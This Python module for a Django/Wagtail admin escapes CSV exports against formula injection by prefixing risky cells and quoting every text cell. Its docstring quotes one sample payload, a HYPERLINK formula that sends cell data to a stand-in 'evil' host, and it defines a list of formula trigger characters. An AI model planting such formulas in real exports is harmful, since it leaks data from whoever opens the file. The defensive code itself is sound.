"""Every CSV the admin hands out, written one way: no cell a spreadsheet would run as a formula.

Search terms, creative names and advertisers' contact details are typed by
readers or outside parties; a cell such as `=HYPERLINK("https://evil/?"&A1)`
would run when an editor opens the file. The rule is OWASP's (CSV
injection): a text cell that begins with `=`, `+`, `-`, `@`, a tab or a
carriage return gets a leading `'`, which spreadsheets show as text. Every
text cell is also quoted, so a `;` or a tab inside it cannot start a new
cell (and so a new formula) in a spreadsheet that splits on those. Numbers
are ours and stay numbers. XLSX needs none of this: Wagtail writes
formula-looking cells there as text.
"""

import csv
import io

from django.http import HttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value):
    """The value as it may go into a CSV cell: text that would start a formula is prefixed with `'`."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` that escapes every cell and quotes every text cell."""

    def __init__(self, file):
        self._writer = csv.writer(file, quoting=csv.QUOTE_NONNUMERIC)

    def writerow(self, row):
        return self._writer.writerow([escape_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def to_text(rows):
    """The rows as one CSV string."""
    out = io.StringIO()
    SafeWriter(out).writerows(rows)
    return out.getvalue()


def csv_response(rows, filename):
    """An attachment download of the rows."""
    response = HttpResponse(to_text(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


class _Echo:
    def write(self, value):
        return value.encode()


class SafeSpreadsheetExportMixin:
    """Put before Wagtail's SpreadsheetExportMixin (report views, model listings): its CSV through `SafeWriter`."""

    def stream_csv(self, queryset):
        writer = SafeWriter(_Echo())
        yield writer.writerow([self.get_heading(queryset, field) for field in self.list_export])
        for item in queryset:
            row = self.to_row_dict(item)
            yield writer.writerow(
                [self.preprocess_field_value(field, value, self.FORMAT_CSV) for field, value in row.items()]
            )
